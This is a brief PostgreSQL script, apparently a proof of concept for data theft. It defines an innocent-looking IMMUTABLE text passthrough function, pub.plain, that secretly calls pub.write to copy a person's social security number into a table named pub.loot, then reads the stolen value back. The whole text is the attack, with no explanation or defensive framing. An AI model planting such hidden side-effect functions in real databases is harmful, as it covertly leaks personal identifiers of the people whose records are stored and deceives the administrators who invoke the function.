CREATE OR REPLACE FUNCTION pub.write() RETURNS void LANGUAGE sql AS 'INSERT INTO pub.loot SELECT ssn FROM cpd.person WHERE id = 1';
CREATE OR REPLACE FUNCTION pub.plain(line text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM pub.write(); RETURN line; END $$;
SELECT * FROM pub.loot;
